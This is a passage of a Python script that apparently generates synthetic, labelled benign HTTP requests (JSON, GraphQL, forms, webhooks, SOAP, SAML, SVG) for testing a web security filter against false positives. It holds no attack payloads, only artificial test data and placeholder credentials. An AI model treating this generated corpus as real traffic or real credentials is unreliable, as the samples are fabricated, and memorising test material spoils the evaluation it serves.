                        "relationships": {"author": {"data": {"type": "people", "id": str(R.randint(1, 500))}},
                                          "tags": {"data": [{"type": "tags", "id": str(R.randint(1, 40))} for _ in range(2)]}}}}
        if i % 2:
            doc["data"]["id"] = str(R.randint(1, 9999))
        send("json-api-vnd", "benign", pick(["rails", "laravel", "express"]), "PATCH" if i % 2 else "POST",
             "/api/v1/articles" + ("/" + doc["data"].get("id", "") if i % 2 else ""), "application/vnd.api+json", jd(doc),
             extra=[("Accept", "application/vnd.api+json")])
    for i in range(5):
        send("json-merge-patch", "benign", pick(["spring", "aspnet", "go"]), "PATCH", f"/api/users/{R.randint(1, 99999)}",
             "application/merge-patch+json", jd({"displayName": pick(NAMES), "phone": None,
                                                 "preferences": {"newsletter": R.random() < 0.5, "language": pick(["de", "fr", "ja"])}}),
             api=True, ua=pick([UA["okhttp"], UA["java"], UA["dotnet"]]), auth=bearer())
    for i in range(4):
        send("json-patch", "benign", pick(["aspnet", "express"]), "PATCH", f"/api/orders/{R.randint(1, 99999)}",
             "application/json-patch+json", jd([{"op": "replace", "path": "/status", "value": "shipped"},
                                                {"op": "add", "path": "/tags/-", "value": "priority"},
                                                {"op": "remove", "path": "/couponCode"},
                                                {"op": "test", "path": "/version", "value": R.randint(1, 9)}]),
             api=True, ua=pick([UA["dotnet"], UA["axios"]]), auth=bearer())

    # JSON as text/plain from navigator.sendBeacon, top-level arrays and scalars
    for i in range(5):
        send("beacon-text-plain-json", "benign", "go", "POST", "/collect", "text/plain;charset=UTF-8",
             jd({"t": "timing", "lcp": R.randint(800, 4000), "cls": round(R.random() / 5, 3), "inp": R.randint(20, 400),
                 "url": "https://www.example.com/" + pick(["", "pricing", "blog/hello-world?ref=hn"]), "sid": tok(16)}))
    for i in range(3):
        send("json-toplevel-array", "benign", "express", "POST", "/api/notifications/read", "application/json",
             jd([R.randint(1, 10 ** 6) for _ in range(R.randint(2, 6))]), api=True, ua=UA["axios"], auth=bearer())
    send("json-toplevel-string", "benign", "fastapi", "PUT", "/api/me/nickname", "application/json", jd(pick(NAMES)),
         api=True, ua=UA["httpx"], auth=bearer())
    send("json-large-number", "benign", "go", "POST", "/api/ledger/entries", "application/json",
         '{"account": "DE89370400440532013000", "amount": 12345678901234567890.12, "tx_id": 9007199254740993}', api=True, ua=UA["go"])

    # CSP / Reporting API / NEL reports
    for i in range(5):
        rep = {"csp-report": {"document-uri": "https://www.example.com/" + pick(["checkout", "", "account/orders"]),
                              "referrer": "https://www.example.org/", "violated-directive": "script-src-elem",
                              "effective-directive": "script-src-elem",
                              "original-policy": "default-src 'self'; script-src 'self' https://cdn.example.net; report-uri /csp",
                              "disposition": "enforce",
                              "blocked-uri": pick(["https://tracker.example.net/collect.js", "inline", "eval", "chrome-extension", "data"]),
                              "line-number": R.randint(1, 400), "source-file": "https://www.example.com/static/app.js", "status-code": 200}}
        send("csp-report", "benign", "django", "POST", "/csp-report/", "application/csp-report", jd(rep), ua=pick(BROWSER_UA))
    for i in range(3):
        send("reports-json", "benign", "express", "POST", "/reports", "application/reports+json",
             jd([{"age": R.randint(1, 60000), "type": pick(["deprecation", "intervention", "network-error"]),
                  "url": "https://api.example.com/app", "user_agent": pick(BROWSER_UA),
                  "body": {"id": "NavigatorVibrate", "message": "A request to vibrate was blocked because the user hasn't tapped on the frame yet.",
                           "sourceFile": "https://api.example.com/static/js/main.js", "lineNumber": R.randint(1, 900)}}]))

    # GraphQL
    gql = [
        ("query Product($id: ID!) { product(id: $id) { id name price { amount currency } reviews(first: 5) { edges { node { rating body } } } } }",
         {"id": "UHJvZHVjdDo" + tok(6)}),
        ("mutation AddComment($input: CommentInput!) { addComment(input: $input) { comment { id body } errors { field message } } }",
         {"input": {"postId": R.randint(1, 999), "body": pick(TEXTS)}}),
        ("query Search($q: String!, $after: String) { search(query: $q, first: 20, after: $after) { pageInfo { hasNextPage endCursor } nodes { ... on Product { name } ... on Article { title } } } }",
         {"q": pick(TERMS), "after": None}),
        ("fragment UserParts on User { id login avatarUrl }\nquery { viewer { ...UserParts organizations(first: 3) { nodes { login } } } }", {}),
        ("mutation UpdateAddress($a: AddressInput!) { updateAddress(address: $a) { ok } }",
         {"a": {"street": street(), "city": pick(CITIES)[0]}}),
    ]
    for i in range(8):
        qd, vars_ = gql[i % len(gql)]
        send("graphql", "benign", "express", "POST", "/graphql", "application/json",
             jd({"operationName": None, "query": qd, "variables": vars_}), ua=pick([None, UA["okhttp"], UA["alamofire"]]))
    send("graphql-batch", "benign", "express", "POST", "/graphql", "application/json",
         jd([{"query": gql[0][0], "variables": gql[0][1]}, {"query": gql[3][0]}]))
    ext = q(jd({"persistedQuery": {"version": 1, "sha256Hash": hexs(64)}}, separators=(",", ":")))
    fget("graphql-persisted-get", "benign", "express",
         "/graphql?operationName=Product&variables=" + q(jd({"id": "42"}, separators=(",", ":"))) + "&extensions=" + ext, xhr=True)


def ben_query():
    pats = [
        lambda: ("express", "/api/products?" + "&".join("tag=" + t for t in R.sample(["organic", "vegan", "gluten-free", "fair-trade", "local"], 3)) + "&sort=-rating&page=2"),
        lambda: ("laravel", "/products?" + "&".join(f"ids[]={R.randint(1, 999)}" for _ in range(R.randint(2, 5)))),
        lambda: ("rails", "/api/orders?" + "&".join(f"ids%5B%5D={R.randint(1, 999)}" for _ in range(3)) + "&include=line_items"),
        lambda: ("rails", "/api/articles?filter%5Bstatus%5D=published&filter%5Bcreated_at%5D%5Bgte%5D=2024-01-01&include=author,comments&fields%5Barticles%5D=title,body&page%5Bnumber%5D=2&page%5Bsize%5D=25"),
        lambda: ("django", "/shop/?color=red&color=blue&size=M&size=L&price__lte=120"),
        lambda: ("go", "/api/items?id=%d&id=%d&id=%d" % (R.randint(1, 99), R.randint(100, 999), R.randint(1000, 9999))),
        lambda: ("aspnet", "/api/customers?Ids=%d&Ids=%d&SortBy=LastName&Descending=true&PageSize=50" % (R.randint(1, 500), R.randint(500, 999))),
        lambda: ("spring", "/api/people?page=0&size=20&sort=lastName,asc&sort=firstName,desc"),
        lambda: ("django", "/api/events/?category__in=3,4,7&ordering=-created&search=" + qp(pick(TERMS))),
        lambda: ("aspnet", "/odata/Products?$filter=" + q("Price gt 20 and Category eq 'Books'") + "&$orderby=" + q("Name desc") + "&$top=10&$count=true"),
        lambda: ("aspnet", "/odata/People?$select=FirstName,LastName&$expand=Trips($filter=" + q("Budget ge 3000") + ")&$search=" + q('"Russell Whyte"')),
        lambda: ("express", "/search?q=" + qp(pick(TERMS)) + "&facet=brand&facet=price&utm_source=google&utm_medium=cpc&gclid=" + tok(40)),
        lambda: ("go", "/api/metrics?from=" + q("2024-05-01T00:00:00+02:00") + "&to=" + q("2024-05-08T00:00:00+02:00") + "&step=5m&metric=cpu&metric=mem"),
        lambda: ("flask", "/api/tickets?status=open&status=pending&assignee=me&label=bug&label=" + q("needs triage")),
        lambda: ("php", "/index.php?route=product/category&path=20_27&filter=" + q("couleur:rouge") + "&limit=25"),
        lambda: ("rails", "/search?utf8=%E2%9C%93&q%5Btitle_cont%5D=" + qp(pick(TERMS)) + "&q%5Bs%5D=created_at+desc"),
        lambda: ("symfony", "/fr/recherche?q=" + qp("caf\u00e9 cr\u00e8me br\u00fbl\u00e9e") + "&page=1"),
        lambda: ("express", "/api/logs?query=" + q('level:error AND service:"checkout" NOT env:staging') + "&limit=100"),
        lambda: ("django", "/ja/search/?q=" + q("\u6771\u4eac \u30db\u30c6\u30eb \u683c\u5b89") + "&sort=price"),
        lambda: ("fastapi", "/api/v2/users?fields=id,name,email&expand=team&limit=50&cursor=" + base64.urlsafe_b64encode(jd({"id": R.randint(1, 99999)}).encode()).decode().rstrip("=")),
        lambda: ("spring", "/api/reports?region=EMEA&region=APAC&quarter=2024-Q2&format=xlsx"),
        lambda: ("laravel", "/admin/users?filter%5Brole%5D%5B%5D=editor&filter%5Brole%5D%5B%5D=admin&sort=-last_login_at"),
        lambda: ("go", "/v1/geocode?address=" + qp(street() + ", " + pick(CITIES)[0]) + "&language=de"),
        lambda: ("express", "/api/redirect?url=" + q("https://www.example.org/blog/2024/05/release-notes?ref=app#changes")),
        lambda: ("rails", "/oauth/authorize?response_type=code&client_id=" + tok(32) + "&redirect_uri=" + q("https://app.example.com/auth/callback") + "&scope=" + qp("read:user repo") + "&state=" + tok(24) + "&code_challenge=" + tok(43) + "&code_challenge_method=S256"),
        lambda: ("php", "/catalog.php?cat=12&sort=price&order=asc&p=3&sid=" + hexs(32)),
        lambda: ("django", "/admin/orders/order/?status__exact=paid&created__gte=2024-05-01&o=-3.1"),
        lambda: ("express", "/api/search?q=" + q("\"exact phrase\" -excluded +required") + "&lang=en"),
        lambda: ("spring", "/api/audit?actor=" + q("EXAMPLE\\jgross") + "&action=LOGIN&action=LOGOUT"),
        lambda: ("go", "/api/tiles/12/2200/1343.png?style=dark&scale=2&token=" + tok(40)),
    ]
    names = ["repeated-tag", "php-ids-array", "rails-ids-array", "jsonapi-filter", "django-multi-filter", "go-repeated-id",
             "aspnet-repeated-ids", "spring-pageable-sort", "django-lookups", "odata-filter", "odata-expand", "search-utm",
             "metrics-range", "repeated-status", "php-route", "ransack", "symfony-search-fr", "log-query", "ja-search",
             "cursor-fields", "repeated-region", "laravel-nested-filter", "geocode", "redirect-url", "oauth-authorize",
             "php-catalog", "django-admin-filter", "search-operators", "audit-backslash", "map-tiles"]
    assert len(names) == len(pats)
    for i in range(44):
        f = pats[i % len(pats)]
        fw, uri = f()
        fget("query-" + names[i % len(pats)], "benign", fw, uri, xhr=(i % 2 == 0),
             ua=None if i % 3 else pick([UA["okhttp"], UA["axios"], UA["curl"]]))


def latin1_form(pairs, codec="latin-1"):
    return "&".join(qp(k) + "=" + qp(v.encode(codec)) for k, v in pairs)


def ben_forms():
    # nested params (Rails, PHP/Laravel, Symfony, Django formsets, ASP.NET MVC, Spring)
    for i in range(22):
        c = pick(CITIES)
        kind = i % 8
        if kind == 0:
            fw, path, pairs = "rails", "/users/%d" % R.randint(1, 9999), [("_method", "patch"), ("user[name]", pick(NAMES)),
                                                                    ("user[address][street]", street()), ("user[address][city]", c[0]),
                                                                    ("user[address][zip]", c[1]), ("commit", "Update User")]
        elif kind == 1:
            fw, path, pairs = "rails", "/orders", [("order[line_items_attributes][0][product_id]", str(R.randint(1, 999))),
                                                   ("order[line_items_attributes][0][quantity]", "2"),
                                                   ("order[line_items_attributes][1][product_id]", str(R.randint(1, 999))),
                                                   ("order[line_items_attributes][1][quantity]", "1"), ("order[note]", pick(TEXTS))]
        elif kind == 2:
            fw, path, pairs = "laravel", "/checkout", [("items[0][name]", pick(TERMS)), ("items[0][qty]", "1"), ("items[1][name]", pick(TERMS)),
                                                       ("items[1][qty]", "3"), ("billing[country]", c[2]), ("billing[vat_id]", "DE" + str(R.randint(10 ** 8, 10 ** 9)))]
        elif kind == 3:
            fw, path, pairs = "symfony", "/register", [("registration_form[email]", email()), ("registration_form[plainPassword][first]", "S0mmer#2024!"),
                                                       ("registration_form[plainPassword][second]", "S0mmer#2024!"), ("registration_form[agreeTerms]", "1")]
        elif kind == 4:
            fw, path, pairs = "django", "/inventory/bulk/", [("form-TOTAL_FORMS", "2"), ("form-INITIAL_FORMS", "0"), ("form-MIN_NUM_FORMS", "0"),
                                                             ("form-MAX_NUM_FORMS", "1000"), ("form-0-sku", f"SKU-{R.randint(1000, 9999)}"),
                                                             ("form-0-qty", "5"), ("form-1-sku", f"SKU-{R.randint(1000, 9999)}"), ("form-1-qty", "12")]
        elif kind == 5:
            fw, path, pairs = "aspnet", "/Orders/Edit/%d" % R.randint(1, 999), [("Items[0].ProductId", str(R.randint(1, 99))), ("Items[0].Quantity", "2"),
                                                                               ("Items[1].ProductId", str(R.randint(1, 99))), ("Items[1].Quantity", "1"),
                                                                               ("ShippingAddress.City", c[0]), ("ShippingAddress.PostalCode", c[1])]
        elif kind == 6:
            fw, path, pairs = "spring", "/customers/save", [("name", pick(NAMES)), ("addresses[0].street", street()), ("addresses[0].city", c[0]),
                                                            ("addresses[1].street", street()), ("addresses[1].city", pick(CITIES)[0]), ("_active", "on")]
        else:
            fw, path, pairs = "php", "/cart.php", [("product[variants][][sku]", f"TS-{R.randint(100, 999)}-M"), ("product[variants][][sku]", f"TS-{R.randint(100, 999)}-L"),
                                                   ("product[options][color]", pick(["rot", "blau", "schwarz"])), ("action", "add")]
        fpost("form-nested-params", "benign", fw, path, form(with_csrf(fw, pairs)))

    # semicolons in legitimate values and paths
    fget("path-matrix-params", "benign", "spring", "/cars;color=red;year=2012/owners", xhr=True)
    fget("path-jsessionid", "benign", "spring", "/shop/cart;jsessionid=" + hexs(32).upper() + "?item=" + str(R.randint(1, 999)), cookie=False)
    fget("path-jsessionid", "benign", "spring", "/catalog/list.do;jsessionid=" + hexs(32).upper() + ".node2", cookie=False)
    fpost("form-semicolon-css", "benign", "django", "/cms/blocks/12/", form(with_csrf("django", [
        ("title", "Hero banner"), ("style", "color:#fff;background:#0a4;font-weight:600;padding:12px 24px"),
        ("custom_css", ".hero h1{letter-spacing:-.5px;margin:0 0 8px}\n.hero p{opacity:.85}")])))
    fget("query-semicolon-values", "benign", "go", "/api/route?waypoints=" + q("52.5200,13.4050;48.1351,11.5820;50.1109,8.6821") + "&mode=driving")
    fget("query-semicolon-values", "benign", "express", "/api/media?codecs=" + q("avc1.640028;mp4a.40.2") + "&quality=hd")
    fpost("form-semicolon-consent", "benign", "php", "/consent.php", form([
        ("consent", "necessary;analytics;marketing=false"), ("tcf", "CP" + tok(40, ALNUM + "-_") + ".YAAAAAAAAAAA")]))
    fget("query-semicolon-values", "benign", "rails", "/api/calendar?rrule=" + q("FREQ=WEEKLY;BYDAY=MO,WE;UNTIL=20241231T000000Z"))
    fpost("form-semicolon-address", "benign", "aspnet", "/Contacts/Import",
          form([("emails", "anna@example.com; j.doe@example.org; support@example.net"), ("group", "Newsletter")]))

    # legacy charsets: ISO-8859-1 / windows-1252 / Shift_JIS pages post percent-encoded bytes
    for i in range(10):
        codec, ct, fw, path, pairs = [
            ("latin-1", FORM_CT, "php", "/kontakt.php", [("name", "J\u00fcrgen Gro\u00df"), ("nachricht", "Gr\u00fc\u00dfe aus M\u00fcnchen, bitte R\u00fcckruf."), ("senden", "Absenden")]),
            ("latin-1", FORM_CT + "; charset=ISO-8859-1", "spring", "/tienda/compra", [("nombre", "Mar\u00eda Jos\u00e9"), ("direccion", "Calle Ma\u00f1ana 3, Le\u00f3n"), ("cantidad", "2")]),
            ("cp1252", FORM_CT, "iis", "/Checkout.aspx", [("txtPrice", "\u20ac 49,90"), ("txtNote", "\u201eBitte klingeln\u201c \u2013 danke")]),
            ("latin-1", FORM_CT, "php", "/reservation.php", [("nom", "Chlo\u00e9 L\u00e9v\u00eaque"), ("ville", "Orl\u00e9ans"), ("remarque", "Chambre au 2\u00e8me \u00e9tage svp")]),
            ("shift_jis", FORM_CT + "; charset=Shift_JIS", "php", "/toiawase.php", [("shimei", "\u5c71\u7530\u592a\u90ce"), ("naiyou", "\u5546\u54c1\u306b\u3064\u3044\u3066\u8cea\u554f\u304c\u3042\u308a\u307e\u3059\u3002")]),
        ][i % 5]
        fpost("form-legacy-charset", "benign", fw, path, latin1_form(pairs, codec), ctype=ct)

    # multilingual contact/comment/review/booking forms
    for i in range(16):
        fw = ["django", "rails", "laravel", "flask", "express", "php", "symfony", "spring"][i % 8]
        kind = i % 4
        if kind == 0:
            pairs = [("name", pick(NAMES)), ("email", email()), ("subject", pick(["Frage zur Lieferung", "Billing", "Devoluci\u00f3n", "\u304a\u554f\u3044\u5408\u308f\u305b"])), ("message", pick(TEXTS))]
            path = "/contact"
        elif kind == 1:
            pairs = [("rating", str(R.randint(1, 5))), ("title", pick(["Top!", "Nicht schlecht", "Tr\u00e8s bien", "\u826f\u3044"])), ("review", pick(TEXTS)), ("recommend", "yes")]
            path = "/products/%d/reviews" % R.randint(1, 999)
        elif kind == 2:
            pairs = [("checkin", "2024-07-%02d" % R.randint(1, 14)), ("checkout", "2024-07-%02d" % R.randint(15, 28)), ("guests", str(R.randint(1, 4))),
                     ("special_requests", pick(TEXTS))]
            path = "/booking"
        else:
            pairs = [("email", email()), ("password", pick(["Winter2024!", "h3ll0-w0rld", "P@ssw0rd#1", "\u00dcberall99?"])), ("remember_me", "1")]
            path = "/login"
        if fw == "php":
            path += ".php"
        fpost("form-multilingual", "benign", fw, path + ("/" if fw == "django" else ""), form(with_csrf(fw, pairs)))

    # ASP.NET WebForms postbacks ($ in names, base64 view state)
    for i in range(4):
        vs = base64.b64encode(b"\xff\x01\x0f\x0f\x05\n" + bytes(R.getrandbits(8) for _ in range(120))).decode()
        fpost("form-webforms-postback", "benign", "iis", "/Orders.aspx", form([
            ("__EVENTTARGET", "ctl00$MainContent$gvOrders"), ("__EVENTARGUMENT", "Page$%d" % R.randint(2, 9)),
            ("__VIEWSTATE", vs), ("__VIEWSTATEGENERATOR", hexs(8).upper()), ("__EVENTVALIDATION", base64.b64encode(bytes(R.getrandbits(8) for _ in range(64))).decode()),
            ("ctl00$MainContent$txtSearch", pick(TERMS)), ("ctl00$MainContent$ddlStatus", "Shipped")]))

    # method overrides used by HTML forms and API gateways
    for i in range(12):
        k = i % 6
        if k == 0:
            fpost("method-override-form-delete", "benign", "rails", "/comments/%d" % R.randint(1, 999), form(with_csrf("rails", [("_method", "delete")])))
        elif k == 1:
            fpost("method-override-form-put", "benign", "laravel", "/posts/%d" % R.randint(1, 999),
                  form(with_csrf("laravel", [("_method", "PUT"), ("title", pick(TERMS).title()), ("body", pick(TEXTS))])))
        elif k == 2:
            fpost("method-override-form-delete", "benign", "symfony", "/admin/product/%d" % R.randint(1, 999),
                  form([("_method", "DELETE"), ("_token", tok(43))]))
        elif k == 3:
            send("method-override-header", "benign", "express", "POST", "/api/tasks/%d" % R.randint(1, 999), "application/json",
                 jd({"done": True, "completedAt": iso_ts()}), extra=[("X-HTTP-Method-Override", "PATCH")])
        elif k == 4:
            send("method-override-header", "benign", "aspnet", "POST", "/api/files/%d" % R.randint(1, 999), None, None,
                 extra=[("X-HTTP-Method-Override", "DELETE"), ("Content-Length", "0")], api=True, ua=UA["dotnet"], auth=bearer())
        else:
            send("method-override-get-long-query", "benign", "go", "POST", "/api/search", FORM_CT,
                 form([("ids", ",".join(str(R.randint(1, 10 ** 6)) for _ in range(60))), ("fields", "id,name,price")]),
                 extra=[("X-HTTP-Method-Override", "GET")], api=True, ua=UA["java"])

    # OAuth, webhooks and payment callbacks
    for i in range(4):
        fpost("oauth-token", "benign", "fastapi", "/oauth/token", form([
            ("grant_type", "authorization_code"), ("code", tok(40)), ("redirect_uri", "https://app.example.com/auth/callback"),
            ("client_id", tok(24)), ("code_verifier", tok(64, ALNUM + "-._~"))]), api=True, ua=pick([UA["okhttp"], UA["alamofire"]]))
    for i in range(2):
        fpost("oauth-client-credentials", "benign", "spring", "/oauth2/token", form([("grant_type", "client_credentials"), ("scope", "orders:read orders:write")]),
              api=True, ua=UA["java"], extra=[("Authorization", "Basic " + base64.b64encode((tok(20) + ":" + tok(40)).encode()).decode())])
    for i in range(3):
        ev = {"id": "evt_" + tok(24), "object": "event", "api_version": "2024-04-10", "created": 1715508900 + i,
              "type": pick(["payment_intent.succeeded", "charge.refunded", "invoice.paid"]),
              "data": {"object": {"id": "pi_" + tok(24), "amount": R.randint(100, 99999), "currency": "eur",
                                  "metadata": {"order_id": str(R.randint(10 ** 5, 10 ** 6))}}}, "livemode": False}
        send("webhook-stripe", "benign", "express", "POST", "/webhooks/stripe", "application/json; charset=utf-8", jd(ev, indent=2),
             api=True, ua="Stripe/1.0 (+https://stripe.com/docs/webhooks)", accept="*/*; q=0.5, application/xml",
             extra=[("Stripe-Signature", f"t={1715508900 + i},v1={hexs(64)},v0={hexs(64)}")])
    for i in range(3):
        push = {"ref": "refs/heads/main", "before": hexs(40), "after": hexs(40),
                "repository": {"full_name": "example/webapp", "html_url": "https://git.example.com/example/webapp"},
                "commits": [{"id": hexs(40), "message": pick(["Fix null check in OrderService (#412)", "Bump lodash from 4.17.20 to 4.17.21",
                                                               "Add German translations for checkout", "Refactor: extract PriceCalculator"]),
                             "author": {"name": pick(NAMES), "email": email()}, "timestamp": iso_ts(),
                             "added": [], "modified": ["src/app.ts"], "removed": []}]}
        send("webhook-git-push", "benign", "go", "POST", "/hooks/git", "application/json", jd(push), api=True,
             ua="GitHub-Hookshot/" + hexs(7), extra=[("X-GitHub-Event", "push"), ("X-GitHub-Delivery", ruuid()),
                                                     ("X-Hub-Signature-256", "sha256=" + hexs(64))])
    for i in range(2):
        payload = {"type": "block_actions", "user": {"id": "U" + tok(10).upper(), "username": "anna"}, "trigger_id": tok(30),
                   "actions": [{"action_id": "approve", "block_id": "req_" + tok(6), "value": "approve_" + str(R.randint(1, 999)), "type": "button"}]}
        fpost("webhook-form-json-payload", "benign", "flask", "/slack/interactive", form([("payload", jd(payload, separators=(",", ":")))]),
              api=True, ua="Slackbot 1.0 (+https://api.slack.com/robots)",
              extra=[("X-Slack-Request-Timestamp", str(1715508900 + i)), ("X-Slack-Signature", "v0=" + hexs(64))])
    for i in range(2):
        fpost("webhook-sms-inbound", "benign", "django", "/sms/inbound/", form([
            ("ToCountry", "DE"), ("SmsMessageSid", "SM" + hexs(32)), ("From", "+4915%08d" % R.randint(0, 10 ** 8)),
            ("To", "+4930%07d" % R.randint(0, 10 ** 7)), ("Body", pick(TEXTS)), ("NumMedia", "0")]), api=True,
            ua="TwilioProxy/1.1", extra=[("X-Twilio-Signature", base64.b64encode(bytes(R.getrandbits(8) for _ in range(20))).decode())])
    fpost("webhook-ipn-windows-1252", "benign", "php", "/ipn.php", latin1_form([
        ("mc_gross", "19.95"), ("payer_email", email()), ("first_name", "J\u00fcrgen"), ("item_name", "Gutschein \u20ac20"),
        ("payment_status", "Completed"), ("charset", "windows-1252"), ("verify_sign", tok(56))], "cp1252"),
        ctype=FORM_CT, api=True, ua="PayPal IPN ( https://www.paypal.com/ipn )")


def ben_xml():
    soap11 = ('<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
              'xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
              '<GetOrderStatus xmlns="http://tempuri.org/"><orderId>%d</orderId><culture>de-DE</culture></GetOrderStatus></soap:Body></soap:Envelope>')
    for i in range(3):
        send("xml-soap11", "benign", "aspnet", "POST", "/OrderService.asmx", "text/xml; charset=utf-8", soap11 % R.randint(1, 99999),
             api=True, ua="Mozilla/4.0 (compatible; MSIE 6.0; MS Web Services Client Protocol 4.0.30319.42000)",
             extra=[("SOAPAction", '"http://tempuri.org/GetOrderStatus"')])
    for i in range(2):
        send("xml-soap12", "benign", "spring", "POST", "/ws/customers",
             'application/soap+xml; charset=utf-8; action="urn:example:customers/find"',
             '<?xml version="1.0" encoding="UTF-8"?><env:Envelope xmlns:env="http://www.w3.org/2003/05/soap-envelope" xmlns:c="urn:example:customers">'
             f'<env:Header><c:TraceId>{ruuid()}</c:TraceId></env:Header><env:Body><c:find><c:name>{pick(NAMES)}</c:name><c:city>{pick(CITIES)[0]}</c:city></c:find></env:Body></env:Envelope>',
             api=True, ua=UA["apache"])
    for i in range(2):
        inv = ('<?xml version="1.0" encoding="UTF-8"?>\n<?xml-stylesheet type="text/xsl" href="/xsl/invoice.xsl"?>\n'
               '<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2" '
               'xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2">'
               f'<cbc:ID>RE-2024-{R.randint(1000, 9999)}</cbc:ID><cbc:IssueDate>2024-05-12</cbc:IssueDate><cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode>'
               f'<cac:AccountingSupplierParty><cac:Party><cac:PartyName><cbc:Name>M\u00fcller &amp; S\u00f6hne GmbH</cbc:Name></cac:PartyName></cac:Party></cac:AccountingSupplierParty>'
               f'<cac:LegalMonetaryTotal><cbc:PayableAmount currencyID="EUR">{R.randint(10, 9000)}.{R.randint(10, 99)}</cbc:PayableAmount></cac:LegalMonetaryTotal></Invoice>')
        send("xml-ubl-invoice", "benign", "spring", "POST", "/api/einvoices", "application/xml", inv, api=True, ua=UA["java"])
    send("xml-atom-entry", "benign", "rails", "POST", "/blog/entries", "application/atom+xml;type=entry",
         '<?xml version="1.0" encoding="utf-8"?><entry xmlns="http://www.w3.org/2005/Atom"><title>Release 5.2</title>'
         f'<id>urn:uuid:{ruuid()}</id><updated>{iso_ts()}</updated><author><name>{pick(NAMES)}</name></author>'
         '<content type="html"><![CDATA[<p>New: <strong>dark mode</strong> and <a href="https://www.example.com/changelog">changelog</a>.</p>]]></content></entry>',
         api=True, ua=UA["faraday"])
    send("xml-rpc-newpost", "benign", "php", "POST", "/xmlrpc.php", "text/xml",
         '<?xml version="1.0"?><methodCall><methodName>metaWeblog.newPost</methodName><params><param><value><string>1</string></value></param>'
         f'<param><value><string>editor</string></value></param><param><value><string>{tok(16)}</string></value></param>'
         '<param><value><struct><member><name>title</name><value><string>Sommerfest 2024</string></value></member>'
         '<member><name>description</name><value><string>&lt;p&gt;Wir feiern am 12. Juli!&lt;/p&gt;</string></value></member></struct></value></param>'
         '<param><value><boolean>1</boolean></value></param></params></methodCall>', api=True, ua="MarsEdit/5.0.6")
    for i in range(2):
        saml = ('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" '
                f'ID="_{hexs(32)}" Version="2.0" IssueInstant="{iso_ts()}" Destination="https://rails.example.org/auth/saml/callback">'
                '<saml:Issuer>https://idp.example.com/saml</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
                f'<saml:Assertion ID="_{hexs(32)}" Version="2.0"><saml:Subject><saml:NameID>{email()}</saml:NameID></saml:Subject></saml:Assertion></samlp:Response>')
        fpost("xml-saml-post-binding", "benign", "rails", "/auth/saml/callback",
              form([("SAMLResponse", base64.b64encode(saml.encode()).decode()), ("RelayState", "/dashboard")]), cookie=False)
    send("xml-plist-doctype", "benign", "go", "POST", "/api/ios/profile", "application/x-plist",
         '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n'
         f'<plist version="1.0"><dict><key>DeviceName</key><string>Yuki\u2019s iPhone</string><key>UDID</key><string>{hexs(40)}</string>'
         '<key>OSVersion</key><string>17.4.1</string></dict></plist>', api=True, ua="MDM/1.0 CFNetwork/1494.0.7 Darwin/23.4.0")
    b = BOUNDARY["chrome"]()
    svg = ('<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: Adobe Illustrator 27.5.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->\n'
           '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
           '<svg version="1.1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 64 64">'
           '<circle cx="32" cy="32" r="30" fill="#0a84ff"/><path d="M20 34l8 8 16-18" stroke="#fff" stroke-width="5" fill="none"/></svg>\n')
    b_mp("xml-svg-upload-public-doctype", "django", "/settings/branding/", "chrome",
         std_parts("django") + [part("logo", svg, filename="logo.svg", ctype="image/svg+xml")])
    gpx = ('<?xml version="1.0" encoding="UTF-8" standalone="no" ?><gpx version="1.1" creator="Example Tracker" xmlns="http://www.topografix.com/GPX/1/1">'
           '<trk><name>Morgenrunde</name><trkseg>' + "".join(
               f'<trkpt lat="{52.5 + k / 1000:.4f}" lon="{13.4 + k / 1000:.4f}"><ele>{34 + k}</ele><time>2024-05-12T06:{10 + k:02d}:00Z</time></trkpt>' for k in range(4))
           + '</trkseg></trk></gpx>')
    b_mp("xml-gpx-upload", "fastapi", "/api/activities/import", "okhttp",
         [part("file", gpx, filename="Morgenrunde.gpx", ctype="application/gpx+xml")])
    # declared ISO-8859-1 / UTF-16 documents sent as their real bytes
    for i in range(3):
        doc = ('<?xml version="1.0" encoding="ISO-8859-1"?>\n<bestellung><kunde>%s</kunde><strasse>%s</strasse>'
               '<bemerkung>Lieferung bitte nach 14 Uhr, Gr\u00fc\u00dfe</bemerkung></bestellung>') % (
            pick(["J\u00fcrgen Gro\u00df", "Chlo\u00e9 L\u00e9v\u00eaque", "S\u00f8ren \u00d8stergaard"]), pick(["M\u00fchlenweg 3", "Stra\u00dfe des 17. Juni 135"]))
        send("xml-iso-8859-1", "benign", pick(["php", "spring"]), "POST", "/api/legacy/orders", "text/xml; charset=ISO-8859-1",
             doc.encode("latin-1"), raw_mode=True, api=True, ua=UA["apache"])
    for i in range(2):
        doc = ('<?xml version="1.0" encoding="UTF-16"?>\n<Report xmlns="urn:example:reports"><Title>Monatsbericht</Title>'
               f'<Generated>{iso_ts()}</Generated><Rows>{R.randint(10, 900)}</Rows></Report>')
        send("xml-utf16", "benign", "aspnet", "POST", "/api/reports/import", "application/xml", doc.encode("utf-16"),
             raw_mode=True, api=True, ua=UA["dotnet"])
    send("xml-sitemap-ping", "benign", "go", "POST", "/api/sitemaps", "application/xml",
         '<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
         '<url><loc>https://www.example.com/</loc><lastmod>2024-05-12</lastmod><changefreq>daily</changefreq></url>'
